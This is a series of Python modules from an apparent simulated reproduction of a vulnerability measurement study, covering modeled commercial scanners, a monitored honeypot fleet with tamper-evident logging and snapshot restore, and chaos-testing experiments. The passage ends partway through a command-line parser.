            landing = transport.get(ip, port, "/", scheme)
        except TransportError:
            run.requests_sent = transport.stats.http_requests - before
            run.duration_seconds += run.requests_sent * self.seconds_per_request
            return run
        candidates = match_signatures(landing.body)

        for slug in candidates:
            if slug in self.vulnerability_coverage:
                plugin = plugin_for(slug)
                if plugin is None:
                    continue
                context = PluginContext(transport, ip, port, scheme)
                report = plugin.detect(context)
                if report is not None:
                    run.findings.append(
                        ScannerFinding(
                            scanner=self.name,
                            target=label,
                            ip=ip,
                            port=port,
                            slug=slug,
                            severity=FindingSeverity.VULNERABILITY,
                            title=report.title,
                        )
                    )
            elif slug in self.informational_coverage:
                run.findings.append(
                    ScannerFinding(
                        scanner=self.name,
                        target=label,
                        ip=ip,
                        port=port,
                        slug=slug,
                        severity=FindingSeverity.INFORMATIONAL,
                        title=f"{slug} service detected",
                    )
                )

        run.requests_sent = transport.stats.http_requests - before
        run.duration_seconds += run.requests_sent * self.seconds_per_request
        return run

    def scan_fleet(self, transport: Transport, targets: list[tuple[str, IPv4Address, int]]) -> ScannerRun:
        """Scan many hosts sequentially; durations and findings accumulate."""
        total = ScannerRun(scanner=self.name)
        for label, ip, port in targets:
            started = total.duration_seconds
            run = self.scan_host(transport, label, ip, port)
            total.findings.extend(run.findings)
            total.duration_seconds += run.duration_seconds
            total.requests_sent += run.requests_sent
            total.visit_windows[label] = (started, total.duration_seconds)
        return total


def make_scanner_1() -> CommercialScanner:
    """Scanner 1: 5/18 MAV checks, fast."""
    return CommercialScanner(
        name="Scanner 1",
        vulnerability_coverage=frozenset(
            {"consul", "docker", "jupyter-notebook", "wordpress", "hadoop"}
        ),
        informational_coverage=frozenset(),
        seconds_per_request=0.3,
        seconds_per_host=2 * MINUTE,
    )


def make_scanner_2() -> CommercialScanner:
    """Scanner 2: 3/18 MAV checks, several informational rules, slow."""
    return CommercialScanner(
        name="Scanner 2",
        vulnerability_coverage=frozenset({"consul", "docker", "jenkins"}),
        informational_coverage=frozenset(
            {"joomla", "phpmyadmin", "kubernetes", "hadoop"}
        ),
        seconds_per_request=2.0,
        # "the entire scan took several hours to complete"
        seconds_per_host=0.5 * HOUR,
    )
