"""Packetbeat/Auditbeat-style monitoring.

Two taps, mirroring the paper's deployment:

* the **network tap** (Packetbeat) records every HTTP transaction read
  straight off the interface — including POST bodies and the WebSocket-
  equivalent traffic that never reaches web-server logs;
* the **audit tap** (Auditbeat) reads the kernel audit stream and records
  process executions with their arguments.

Both taps ship their events to the central log immediately; nothing is
buffered on the (compromisable) honeypot itself.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.apps.base import CommandExecution
from repro.honeypot.logstore import CentralLogStore
from repro.honeypot.machine import HoneypotMachine
from repro.net.http import HttpRequest, HttpResponse
from repro.net.ipv4 import IPv4Address
from repro.obs.telemetry import Telemetry


@dataclass(frozen=True)
class NetworkEvent:
    """One HTTP transaction as Packetbeat would report it."""

    honeypot: str
    timestamp: float
    source_ip: IPv4Address
    method: str
    path: str
    request_body: str
    status: int

    @property
    def kind(self) -> str:
        return "network"


@dataclass(frozen=True)
class AuditEvent:
    """One process execution as Auditbeat would report it."""

    honeypot: str
    timestamp: float
    source_ip: IPv4Address
    command: str
    via: str          # web endpoint that triggered the execve
    mechanism: str    # terminal, build-step, container, ...
    payload_fingerprint: int

    @property
    def kind(self) -> str:
        return "audit"


class BeatsMonitor:
    """Wraps a honeypot machine and ships events to the central log."""

    def __init__(
        self,
        machine: HoneypotMachine,
        log: CentralLogStore,
        telemetry: Telemetry | None = None,
    ) -> None:
        self.machine = machine
        self.log = log
        self.telemetry = telemetry

    def _count(self, name: str, **labels: object) -> None:
        if self.telemetry is not None:
            self.telemetry.metrics.counter(name, **labels).inc()

    def deliver(
        self, timestamp: float, source_ip: IPv4Address, request: HttpRequest
    ) -> HttpResponse:
        """Pass attacker traffic through the taps into the honeypot."""
        response = self.machine.handle(request)
        self.log.append(
            NetworkEvent(
                honeypot=self.machine.name,
                timestamp=timestamp,
                source_ip=source_ip,
                method=request.method,
                path=request.path,
                request_body=request.body,
                status=response.status,
            )
        )
        self._count(
            "honeypot_network_events_total", honeypot=self.machine.name
        )
        for execution in self.machine.app.drain_executions():
            self.log.append(self._audit_event(timestamp, source_ip, execution))
            self._count(
                "honeypot_audit_events_total",
                honeypot=self.machine.name,
                mechanism=execution.mechanism,
            )
        return response

    def _audit_event(
        self, timestamp: float, source_ip: IPv4Address, execution: CommandExecution
    ) -> AuditEvent:
        return AuditEvent(
            honeypot=self.machine.name,
            timestamp=timestamp,
            source_ip=source_ip,
            command=execution.command,
            via=execution.via,
            mechanism=execution.mechanism,
            payload_fingerprint=execution.payload_fingerprint,
        )
