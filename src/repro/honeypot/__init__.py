"""High-interaction honeypot infrastructure (paper §4).

Eighteen vulnerable application deployments, each wrapped in a
:class:`~repro.honeypot.machine.HoneypotMachine` with snapshot/restore, a
Packetbeat/Auditbeat-style :class:`~repro.honeypot.monitor.BeatsMonitor`
shipping to an append-only :class:`~repro.honeypot.logstore.CentralLogStore`,
an out-of-band :class:`~repro.honeypot.resource.ResourceMonitor`, and a
:class:`~repro.honeypot.fleet.HoneypotFleet` that restores compromised
machines from their snapshots.
"""

from repro.honeypot.machine import HoneypotMachine, Snapshot
from repro.honeypot.monitor import AuditEvent, BeatsMonitor, NetworkEvent
from repro.honeypot.logstore import CentralLogStore, LogRecord
from repro.honeypot.resource import ResourceMonitor, ResourceSample
from repro.honeypot.fleet import HoneypotFleet

__all__ = [
    "HoneypotMachine",
    "Snapshot",
    "AuditEvent",
    "BeatsMonitor",
    "NetworkEvent",
    "CentralLogStore",
    "LogRecord",
    "ResourceMonitor",
    "ResourceSample",
    "HoneypotFleet",
]
