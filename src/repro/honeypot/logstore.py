"""The append-only central log (the paper's Elasticsearch server).

All honeypots ship their events here so "an attacker [cannot change] the
log afterwards".  Tamper evidence is modelled with a hash chain: every
record carries the digest of its predecessor, and :meth:`verify_integrity`
recomputes the chain.  Queries cover what the analysis needs: filter by
honeypot, kind, and time range.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from typing import Callable, Iterable

from repro.util.errors import LogIntegrityError


@dataclass(frozen=True)
class LogRecord:
    """An event wrapped with its position in the hash chain."""

    sequence: int
    digest: str
    previous_digest: str
    event: object  # NetworkEvent | AuditEvent (duck-typed: .kind, .honeypot, .timestamp)


def _digest(previous: str, event: object) -> str:
    return hashlib.sha256((previous + repr(event)).encode()).hexdigest()


class CentralLogStore:
    """Append-only event store with hash-chain integrity."""

    GENESIS = "0" * 64

    def __init__(self) -> None:
        self._records: list[LogRecord] = []

    def append(self, event: object) -> LogRecord:
        previous = self._records[-1].digest if self._records else self.GENESIS
        record = LogRecord(
            sequence=len(self._records),
            digest=_digest(previous, event),
            previous_digest=previous,
            event=event,
        )
        self._records.append(record)
        return record

    def __len__(self) -> int:
        return len(self._records)

    def records(self) -> tuple[LogRecord, ...]:
        return tuple(self._records)

    def events(
        self,
        kind: str | None = None,
        honeypot: str | None = None,
        since: float | None = None,
        until: float | None = None,
        predicate: Callable[[object], bool] | None = None,
    ) -> list[object]:
        """Query events with optional filters (all conjunctive)."""
        out = []
        for record in self._records:
            event = record.event
            if kind is not None and getattr(event, "kind", None) != kind:
                continue
            if honeypot is not None and getattr(event, "honeypot", None) != honeypot:
                continue
            timestamp = getattr(event, "timestamp", None)
            if since is not None and (timestamp is None or timestamp < since):
                continue
            if until is not None and (timestamp is None or timestamp > until):
                continue
            if predicate is not None and not predicate(event):
                continue
            out.append(event)
        return out

    def audit_events(self, **filters: object) -> list[object]:
        return self.events(kind="audit", **filters)  # type: ignore[arg-type]

    def network_events(self, **filters: object) -> list[object]:
        return self.events(kind="network", **filters)  # type: ignore[arg-type]

    def verify_integrity(self) -> None:
        """Recompute the hash chain; raise if any record was altered."""
        previous = self.GENESIS
        for index, record in enumerate(self._records):
            if record.sequence != index:
                raise LogIntegrityError(f"sequence gap at {index}")
            if record.previous_digest != previous:
                raise LogIntegrityError(f"chain break at {index}")
            expected = _digest(previous, record.event)
            if record.digest != expected:
                raise LogIntegrityError(f"record {index} was modified")
            previous = record.digest

    def honeypots_seen(self) -> set[str]:
        return {
            getattr(r.event, "honeypot")
            for r in self._records
            if getattr(r.event, "honeypot", None) is not None
        }

    def extend_from(self, events: Iterable[object]) -> None:
        for event in events:
            self.append(event)
