"""The honeypot fleet: 18 machines plus monitoring and restore logic.

Mirrors the paper's deployment: one machine per vulnerable application,
each with a static IP, Packetbeat+Auditbeat shipping to the central log,
an out-of-band resource monitor, and automatic snapshot restore when a
compromise consumes resources or breaks the trap's re-exploitability
(trust-on-first-use applications are restored as soon as they are
hijacked, so multiple attacks remain observable).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.apps.catalog import create_instance, in_scope_apps
from repro.honeypot.logstore import CentralLogStore
from repro.honeypot.machine import HoneypotMachine
from repro.honeypot.monitor import BeatsMonitor
from repro.honeypot.resource import ResourceMonitor
from repro.net.http import HttpRequest, HttpResponse
from repro.net.ipv4 import IPv4Address
from repro.obs.telemetry import Telemetry
from repro.util.errors import ConfigError, TransportError


@dataclass
class HoneypotFleet:
    """All honeypots, addressable by application slug."""

    log: CentralLogStore = field(default_factory=CentralLogStore)
    resources: ResourceMonitor = field(default_factory=ResourceMonitor)
    machines: dict[str, HoneypotMachine] = field(default_factory=dict)
    monitors: dict[str, BeatsMonitor] = field(default_factory=dict)
    telemetry: Telemetry | None = None

    @classmethod
    def deploy(
        cls, base_ip: str = "198.51.100.0", telemetry: Telemetry | None = None
    ) -> "HoneypotFleet":
        """Install the 18 in-scope applications in a vulnerable state.

        Each gets a dedicated machine and static IP.  Machines come up
        firewalled; call :meth:`go_live` once setup is complete.
        """
        fleet = cls(telemetry=telemetry)
        base = IPv4Address.parse(base_ip).value
        for offset, spec in enumerate(in_scope_apps(), start=1):
            app = create_instance(spec.slug, vulnerable=True)
            machine = HoneypotMachine(
                name=spec.slug,
                ip=IPv4Address(base + offset),
                port=spec.default_ports[0],
                app=app,
            )
            fleet.machines[spec.slug] = machine
            fleet.monitors[spec.slug] = BeatsMonitor(
                machine, fleet.log, telemetry=telemetry
            )
        return fleet

    def _count(self, name: str, **labels: object) -> None:
        if self.telemetry is not None:
            self.telemetry.metrics.counter(name, **labels).inc()

    def go_live(self) -> None:
        """Snapshot every machine and drop the setup firewall."""
        for machine in self.machines.values():
            machine.finalize()

    def machine(self, slug: str) -> HoneypotMachine:
        try:
            return self.machines[slug]
        except KeyError:
            raise ConfigError(f"no honeypot for {slug!r}") from None

    def deliver(
        self, slug: str, timestamp: float, source_ip: IPv4Address, request: HttpRequest
    ) -> HttpResponse | None:
        """Deliver attacker traffic; None if the machine is unreachable."""
        monitor = self.monitors.get(slug)
        if monitor is None:
            raise ConfigError(f"no honeypot for {slug!r}")
        try:
            response = monitor.deliver(timestamp, source_ip, request)
        except TransportError:
            self._count("honeypot_requests_total", honeypot=slug, outcome="dropped")
            return None
        self._count("honeypot_requests_total", honeypot=slug, outcome="delivered")
        return response

    # -- availability & containment ----------------------------------------

    def apply_payload_load(self, slug: str, cpu: float, network: float) -> None:
        self.resources.apply_load(slug, cpu, network)

    def containment_sweep(self, timestamp: float) -> list[str]:
        """Shut down and restore machines whose resource use spiked.

        Returns the slugs restored in this sweep.
        """
        over = self.resources.machines_over_threshold(
            timestamp, list(self.machines)
        )
        for slug in over:
            self.restore(slug, reason="containment")
        return over

    def availability_sweep(self) -> list[str]:
        """Restore honeypots that stopped being exploitable.

        Detects attacks that 'fix' the application (completed CMS install,
        vigilante shutdown) and restores the snapshot so further attacks
        stay observable.
        """
        restored = []
        for slug, machine in self.machines.items():
            if not machine.firewalled and not machine.is_vulnerable():
                self.restore(slug, reason="availability")
                restored.append(slug)
        return restored

    def restore(self, slug: str, reason: str = "manual") -> None:
        machine = self.machine(slug)
        machine.restore()
        self.resources.clear(slug)
        # The restored machine is re-instrumented.
        self.monitors[slug] = BeatsMonitor(
            machine, self.log, telemetry=self.telemetry
        )
        self._count("honeypot_restores_total", honeypot=slug, reason=reason)
        if self.telemetry is not None:
            self.telemetry.events.info(
                "honeypot", "restore", host=machine.ip, slug=slug, reason=reason
            )

    def total_restores(self) -> int:
        return sum(machine.restore_count for machine in self.machines.values())
