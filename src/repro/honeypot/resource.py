"""Out-of-band resource monitoring (the paper's abuse brake).

"We implemented a resource monitor to observe CPU and network bandwidth
usage ... Once a threshold was exceeded, we shut down the honeypot and
restored the initial state."  Crucially, the monitor runs in the cloud
provider's control plane — an attacker with root on the honeypot cannot
disable it.

Payloads attach a resource profile (a cryptominer pins the CPU, a DDoS
bot saturates the uplink); the monitor samples usage and reports machines
exceeding their thresholds so the fleet can restore them.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class ResourceSample:
    timestamp: float
    machine: str
    cpu_percent: float
    network_mbps: float


@dataclass
class ResourceMonitor:
    """Threshold monitor; thresholds derive from pre-exposure baselines."""

    cpu_threshold: float = 80.0
    network_threshold_mbps: float = 50.0
    #: current simulated load per machine name
    _cpu: dict[str, float] = field(default_factory=dict)
    _network: dict[str, float] = field(default_factory=dict)
    samples: list[ResourceSample] = field(default_factory=list)
    #: SSH egress is blocked out-of-band for every machine
    ssh_egress_blocked: bool = True

    def apply_load(self, machine: str, cpu_percent: float, network_mbps: float) -> None:
        """A payload started consuming resources on ``machine``."""
        self._cpu[machine] = self._cpu.get(machine, 0.0) + cpu_percent
        self._network[machine] = self._network.get(machine, 0.0) + network_mbps

    def clear(self, machine: str) -> None:
        """Machine was restored from snapshot: load is gone."""
        self._cpu.pop(machine, None)
        self._network.pop(machine, None)

    def sample(self, timestamp: float, machine: str) -> ResourceSample:
        sample = ResourceSample(
            timestamp=timestamp,
            machine=machine,
            cpu_percent=min(100.0, self._cpu.get(machine, 2.0)),
            network_mbps=self._network.get(machine, 0.1),
        )
        self.samples.append(sample)
        return sample

    def exceeded(self, sample: ResourceSample) -> bool:
        return (
            sample.cpu_percent > self.cpu_threshold
            or sample.network_mbps > self.network_threshold_mbps
        )

    def machines_over_threshold(self, timestamp: float, machines: list[str]) -> list[str]:
        """Sample every machine and return the ones over threshold."""
        return [
            name
            for name in machines
            if self.exceeded(self.sample(timestamp, name))
        ]
