"""One honeypot machine: a vulnerable application plus snapshot/restore.

The paper installs each application on a dedicated cloud server, takes a
snapshot of the finalised honeypot, and restores it whenever a compromise
is detected — essential because several MAVs (trust-on-first-use
installations) can only be exploited once.

A machine also models the out-of-band firewall: during setup all incoming
requests are blocked, so no attacker can interact with a half-configured
honeypot.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass

from repro.apps.base import WebApplication
from repro.net.http import HttpRequest, HttpResponse
from repro.net.ipv4 import IPv4Address
from repro.util.errors import ConnectionTimeout, SnapshotError


@dataclass(frozen=True)
class Snapshot:
    """A full copy of the application state at snapshot time."""

    version: str
    config: dict[str, object]


@dataclass
class HoneypotMachine:
    """A vulnerable application instance on a dedicated (simulated) server."""

    name: str
    ip: IPv4Address
    port: int
    app: WebApplication
    cpu_cores: int = 2
    memory_gb: int = 8
    firewalled: bool = True  # blocked until setup completes
    snapshot: Snapshot | None = None
    restore_count: int = 0
    #: cumulative requests seen (availability monitoring)
    requests_seen: int = 0

    @property
    def slug(self) -> str:
        return self.app.slug

    def take_snapshot(self) -> Snapshot:
        """Snapshot the finalised honeypot before exposing it."""
        self.snapshot = Snapshot(self.app.version, copy.deepcopy(self.app.config))
        return self.snapshot

    def finalize(self) -> None:
        """Snapshot and open the firewall: the honeypot goes live."""
        self.take_snapshot()
        self.firewalled = False

    def restore(self) -> None:
        """Restore the machine from its snapshot after a compromise."""
        if self.snapshot is None:
            raise SnapshotError(f"{self.name}: no snapshot to restore from")
        app_type = type(self.app)
        self.app = app_type(self.snapshot.version, copy.deepcopy(self.snapshot.config))
        self.restore_count += 1

    def handle(self, request: HttpRequest) -> HttpResponse:
        """Deliver one request to the honeypot application."""
        if self.firewalled:
            raise ConnectionTimeout(f"{self.name} is firewalled during setup")
        self.requests_seen += 1
        return self.app.handle(request)

    def is_vulnerable(self) -> bool:
        return self.app.is_vulnerable()

    def __repr__(self) -> str:
        state = "firewalled" if self.firewalled else "live"
        return f"<HoneypotMachine {self.name} {self.ip}:{self.port} {state}>"
