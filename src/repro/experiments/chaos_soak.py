"""Chaos soak: the supervised runtime against a hostile Internet.

Two studies exercise the degradation path end to end:

* :func:`run_chaos_soak` — one sweep under an aggressive
  :class:`~repro.net.chaos.FaultPlan` (hangs, stalls, poison bodies, an
  injected shard crash) with a tight sweep deadline.  The run must
  *complete degraded*: no exception, a partial report, and a
  :class:`~repro.core.coverage.CoverageReport` whose books balance and
  reconcile against the report's own totals.  CI runs this as a gate —
  a supervised sweep that crashes, hangs, or mis-accounts fails the job;
* :func:`run_chaos_coverage_study` — scales the same fault plan from
  zero to several times the soak severity and tabulates how the coverage
  fraction, quarantine counts, and MAV yield degrade, quantifying the
  "our results are a lower bound" caveat for the hostile-network
  component.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.apps.catalog import scanned_ports
from repro.core.coverage import CoverageReport
from repro.core.pipeline import ScanPipeline, ScanReport
from repro.core.retry import RetryPolicy
from repro.core.supervisor import SupervisorConfig
from repro.net.chaos import ChaosTransport, FaultPlan
from repro.net.population import PopulationModel, generate_internet
from repro.net.transport import InMemoryTransport
from repro.obs.telemetry import Telemetry
from repro.util.clock import SimClock
from repro.util.errors import ConfigError
from repro.util.tables import Table

#: The soak's weather: every fault family at once.  Severe enough that a
#: run *must* quarantine and hit its deadline, mild enough that most of
#: the frame is still covered — a sweep that degrades to nothing would
#: not exercise the accounting.
HOSTILE_PLAN = FaultPlan(
    syn_loss=0.05,
    request_loss=0.05,
    reset_rate=0.02,
    slow_rate=0.02,
    slow_latency=30.0,
    hang_rate=0.01,
    hang_latency=3600.0,
    stall_rate=0.01,
    stall_latency=120.0,
    poison_rate=0.05,
    truncate_rate=0.02,
)

#: Supervision for the soak: a per-probe watchdog well under the injected
#: hang, a sweep deadline the hostile run cannot meet, a hair-trigger
#: quarantine, and one injected crash of shard 0 (restarted, not fatal).
SOAK_SUPERVISOR = SupervisorConfig(
    sweep_deadline=600.0,
    probe_deadline=30.0,
    max_shard_restarts=2,
    quarantine_threshold=1,
    quarantine_block_threshold=4,
    stall_window=300.0,
    crash_shards=((0, 1),),
)


@dataclass
class ChaosSoakResult:
    """One supervised sweep through the storm."""

    plan: FaultPlan
    supervisor: SupervisorConfig
    report: ScanReport
    #: the pipeline's full observability handle (events, spans, metrics,
    #: flight recorder) so degraded-run telemetry can be exported and
    #: diffed exactly like the scan experiments'
    telemetry: object | None = None

    @property
    def coverage(self) -> CoverageReport:
        return self.report.coverage

    def render(self) -> str:
        return self.coverage.render()


def _hostile_pipeline(
    internet,
    plan: FaultPlan,
    supervisor: SupervisorConfig,
    seed: int,
    workers: int,
    profile: bool = False,
    console: object | None = None,
) -> ScanPipeline:
    clock = SimClock()
    transport = ChaosTransport(
        InMemoryTransport(internet), plan, seed=seed, clock=clock
    )
    return ScanPipeline(
        transport,
        scanned_ports(),
        seed=seed,
        fingerprint=False,
        retry_policy=RetryPolicy(max_attempts=3, base_delay=0.5, max_delay=8.0),
        clock=clock,
        workers=workers,
        # The sparse soak frame holds ~1 address per /24: shards of 64
        # blocks are big enough that a hostile shard can actually burn
        # its clock budget (and shard 0, the injected-crash target,
        # still exists many times over).
        shard_blocks=64,
        supervisor=supervisor,
        profile=profile,
        console=console,
    )


def run_chaos_soak(
    seed: int = 13,
    workers: int = 2,
    plan: FaultPlan = HOSTILE_PLAN,
    supervisor: SupervisorConfig = SOAK_SUPERVISOR,
    profile: bool = False,
    console: object | None = None,
) -> ChaosSoakResult:
    """One hostile sweep that must complete degraded, books balanced.

    Raises :class:`~repro.util.errors.ConfigError` if the run fails any
    gate: it must finish (the supervisor's job), it must be *degraded*
    (otherwise the plan was not hostile and the soak proves nothing),
    and its coverage account must verify and reconcile (the fold checks
    this too — re-checked here so the gate does not rely on internals).
    """
    internet, _geo, _census = generate_internet(
        PopulationModel(awe_rate=0.002, vuln_rate=0.1, background_rate=1e-7)
    )
    pipeline = _hostile_pipeline(
        internet, plan, supervisor, seed, workers,
        profile=profile, console=console,
    )
    report = pipeline.run(internet.populated_addresses())

    coverage = report.coverage
    if not coverage.degraded:
        raise ConfigError(
            "chaos soak completed clean — the fault plan exercised nothing"
        )
    coverage.verify()
    coverage.reconcile(report)
    return ChaosSoakResult(
        plan=plan, supervisor=supervisor, report=report,
        telemetry=pipeline.telemetry,
    )


@dataclass(frozen=True)
class SeverityPoint:
    """Coverage under one multiple of the hostile plan."""

    severity: float
    coverage_fraction: float
    quarantined_hosts: int
    quarantined_blocks: int
    deadline_skipped: int
    unreachable: int
    mavs_found: int


@dataclass
class ChaosCoverageResult:
    points: list[SeverityPoint]
    #: per-arm telemetry folded in severity order (``--telemetry-out``
    #: support); ``None`` only for hand-built results
    telemetry: object | None = None

    def table(self) -> Table:
        table = Table(
            "Extension: coverage under scaled chaos (supervised runtime)",
            ("Severity", "Coverage", "Quarantined hosts", "Quarantined /24s",
             "Deadline-skipped", "Unreachable", "MAVs found"),
        )
        for point in self.points:
            table.add_row(
                f"{point.severity:g}x",
                f"{point.coverage_fraction:.1%}",
                point.quarantined_hosts,
                point.quarantined_blocks,
                point.deadline_skipped,
                point.unreachable,
                point.mavs_found,
            )
        return table


def run_chaos_coverage_study(
    severities: tuple[float, ...] = (0.0, 0.5, 1.0, 2.0, 4.0),
    seed: int = 13,
    workers: int = 2,
) -> ChaosCoverageResult:
    """Sweep one population as the fault plan scales from calm to brutal.

    Every severity sees the same frame, seeds, and supervision; only the
    fault rates change (``HOSTILE_PLAN.scaled``), so the coverage curve
    is attributable to the weather alone.  The injected shard crash is
    left out here — this study measures fault-driven degradation, not
    the restart ladder.
    """
    internet, _geo, _census = generate_internet(
        PopulationModel(awe_rate=0.002, vuln_rate=0.1, background_rate=1e-7)
    )
    addresses = internet.populated_addresses()
    supervisor = SupervisorConfig(
        # Looser than the soak's: retry backoff alone burns ~600 clock
        # seconds per shard on this frame, and the study wants the
        # *fault* severity — not the baseline backoff — to move the
        # coverage curve, so the calm arm must fit inside the budget.
        sweep_deadline=2 * SOAK_SUPERVISOR.sweep_deadline,
        probe_deadline=SOAK_SUPERVISOR.probe_deadline,
        quarantine_threshold=SOAK_SUPERVISOR.quarantine_threshold,
        quarantine_block_threshold=SOAK_SUPERVISOR.quarantine_block_threshold,
        stall_window=SOAK_SUPERVISOR.stall_window,
    )
    points = []
    merged = Telemetry()
    for severity in severities:
        pipeline = _hostile_pipeline(
            internet, HOSTILE_PLAN.scaled(severity), supervisor, seed, workers
        )
        report = pipeline.run(addresses)
        # Fold the arm's record in severity order: one deterministic
        # stream covering the whole study, diffable like any other run's.
        merged.events.info(
            "chaos-coverage", "severity-arm", severity=severity
        )
        merged.absorb(pipeline.telemetry)
        coverage = report.coverage
        coverage.verify()
        coverage.reconcile(report)
        stages = coverage.stages.values()
        points.append(
            SeverityPoint(
                severity=severity,
                coverage_fraction=coverage.coverage_fraction(),
                quarantined_hosts=len(coverage.quarantined_hosts),
                quarantined_blocks=len(coverage.quarantined_blocks),
                deadline_skipped=sum(s.deadline_skipped for s in stages),
                unreachable=sum(s.unreachable for s in stages),
                mavs_found=len(report.vulnerable_ips()),
            )
        )
    return ChaosCoverageResult(points, telemetry=merged)
