"""The defender-awareness study (paper §5).

Runs the two simulated commercial scanners against a fresh honeypot
fleet (all 18 applications in their vulnerable state) and reports which
MAVs each scanner detects, which it only fingerprints, and how long the
scan takes.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.analysis.tables import scanner_table
from repro.apps.base import AppInstance
from repro.defender.scanners import (
    CommercialScanner,
    ScannerRun,
    make_scanner_1,
    make_scanner_2,
)
from repro.honeypot.fleet import HoneypotFleet
from repro.net.host import Host, HostKind, Service
from repro.net.http import Scheme
from repro.net.network import SimulatedInternet
from repro.net.transport import InMemoryTransport
from repro.util.tables import Table


@dataclass
class DefenderStudy:
    """Scanner runs plus derived coverage sets."""

    runs: dict[str, ScannerRun]

    def detections(self) -> dict[str, set[str]]:
        return {name: run.detected_slugs() for name, run in self.runs.items()}

    def informational(self) -> dict[str, set[str]]:
        return {name: run.informational_slugs() for name, run in self.runs.items()}

    def table(self) -> Table:
        return scanner_table(self.detections(), self.informational())

    def detected_count(self, scanner: str) -> int:
        return len(self.runs[scanner].detected_slugs())


def _fleet_as_network(fleet: HoneypotFleet) -> SimulatedInternet:
    """Expose the honeypot machines as scannable network hosts."""
    internet = SimulatedInternet()
    for machine in fleet.machines.values():
        host = Host(machine.ip, HostKind.AWE)
        host.add_service(
            Service(
                machine.port,
                frozenset({Scheme.HTTP}),
                app=AppInstance(machine.app, machine.port),
            )
        )
        internet.add_host(host)
    return internet


def mid_scan_compromises(attacks, run: ScannerRun, scan_started_at: float = 0.0) -> int:
    """Attacks that landed before the scanner finished each honeypot.

    The paper's §5 anecdote: Scanner 2's hours-long scan was overtaken by
    live exploitation.  An attack "beats" the scanner when it hits a
    honeypot before the scanner completed that honeypot's visit.
    """
    beaten = 0
    for attack in attacks:
        window = run.visit_windows.get(attack.honeypot)
        if window is None:
            continue
        visit_end = scan_started_at + window[1]
        if attack.start < visit_end:
            beaten += 1
    return beaten


def run_defender_study(
    fleet: HoneypotFleet | None = None,
    scanners: list[CommercialScanner] | None = None,
) -> DefenderStudy:
    """Point the commercial scanners at the (vulnerable) honeypots."""
    if fleet is None:
        fleet = HoneypotFleet.deploy()
        fleet.go_live()
    internet = _fleet_as_network(fleet)
    targets = [
        (machine.name, machine.ip, machine.port)
        for machine in fleet.machines.values()
    ]
    runs: dict[str, ScannerRun] = {}
    for scanner in scanners or [make_scanner_1(), make_scanner_2()]:
        transport = InMemoryTransport(internet)
        runs[scanner.name] = scanner.scan_fleet(transport, targets)
    return DefenderStudy(runs=runs)
