"""The complete reproduction: all four studies plus the combined report.

Runs §3's scan, RQ3's observer, §4's honeypots, and §5's scanners on one
shared configuration, then renders every table and figure.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.analysis.tables import table9
from repro.experiments.config import StudyConfig
from repro.experiments.defenders import DefenderStudy, run_defender_study
from repro.experiments.honeypots import HoneypotStudy, run_honeypot_study
from repro.experiments.observe import ObserverStudy, run_observer_study
from repro.experiments.scan import ScanStudy, run_scan_study
from repro.util.tables import Table


@dataclass
class FullStudy:
    """All four studies, ready for rendering."""

    config: StudyConfig
    scan: ScanStudy
    observer: ObserverStudy
    honeypots: HoneypotStudy
    defenders: DefenderStudy

    def table9(self) -> Table:
        return table9(
            self.scan.report,
            self.scan.census,
            self.honeypots.attacks,
            self.defenders.detections(),
        )

    def render(self) -> str:
        """The full plain-text report: every table and figure."""
        from repro.analysis.report import render_text

        return render_text(self)

    def render_markdown(self) -> str:
        """The same report with markdown structure."""
        from repro.analysis.report import render_markdown

        return render_markdown(self)

    def _headline_numbers(self) -> str:
        counts = self.observer.final_counts()
        total_watched = len(self.observer.log.hosts)
        lines = [
            "Headline numbers (paper -> this run):",
            f"  MAV hosts found by the scan: 4,221 -> {self.scan.total_mavs():,}",
            f"  attacks on the honeypots: 2,195 -> {len(self.honeypots.attacks):,}",
            f"  attacked applications: 7 -> {len(self.honeypots.attacked_applications())}",
            f"  top-5 attacker share: 67% -> {100 * self.honeypots.top_share(5):.0f}%",
            f"  scanners detect 5 and 3 of 18 -> "
            + " and ".join(
                str(self.defenders.detected_count(name))
                for name in sorted(self.defenders.runs)
            ),
        ]
        if total_watched:
            lines.append(
                "  still vulnerable after 4 weeks: >50% -> "
                f"{100 * counts[list(counts)[0]] / total_watched:.0f}%"
            )
        return "\n".join(lines)


def run_full_study(
    config: StudyConfig | None = None,
    supervisor: object | None = None,
) -> FullStudy:
    """Run the complete reproduction on one configuration.

    ``supervisor`` (a :class:`~repro.core.supervisor.SupervisorConfig`)
    runs the §3 sweep under the supervised runtime; the report then
    carries a coverage account, rendered in its own section.
    """
    config = config or StudyConfig.default()
    scan = run_scan_study(config, supervisor=supervisor)
    observer = run_observer_study(scan)
    honeypots = run_honeypot_study(
        config,
        geo=scan.geo,
        taken_ips={ip.value for ip in scan.internet.populated_addresses()},
    )
    defenders = run_defender_study()
    return FullStudy(
        config=config,
        scan=scan,
        observer=observer,
        honeypots=honeypots,
        defenders=defenders,
    )
