"""Command-line entry point: ``repro-study``.

Examples::

    repro-study --experiment scan --scale tiny
    repro-study --experiment full --scale default --out report.txt
"""

from __future__ import annotations

import argparse
import json
import sys

from repro.experiments.config import StudyConfig
from repro.experiments.defenders import run_defender_study
from repro.experiments.full_study import run_full_study
from repro.experiments.honeypots import run_honeypot_study
from repro.experiments.observe import run_observer_study
from repro.experiments.scan import run_scan_study

_SCALES = {
    "tiny": StudyConfig.tiny,
    "default": StudyConfig.default,
    "paper": StudyConfig.paper,
}


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro-study",
        description="Reproduce the MAV measurement study (IMC 2022).",
    )
    parser.add_argument(
        "--experiment",
        choices=("full", "scan", "observe", "honeypot", "defender",
                 "ct-race", "vhosts", "packet-loss", "recall-recovery",
                 "chaos-soak", "chaos-coverage", "longevity"),
        default="full",
    )
    parser.add_argument("--scale", choices=sorted(_SCALES), default="default")
    parser.add_argument("--seed", type=int, default=None)
    parser.add_argument("--workers", type=int, default=None,
                        help="run the sweep as concurrent /24-aligned shards "
                             "on this many workers (scan / observe "
                             "experiments); the report and telemetry are "
                             "byte-identical for every worker count")
    parser.add_argument("--executor", choices=("thread", "process"),
                        default="thread",
                        help="shard execution backend when --workers is set: "
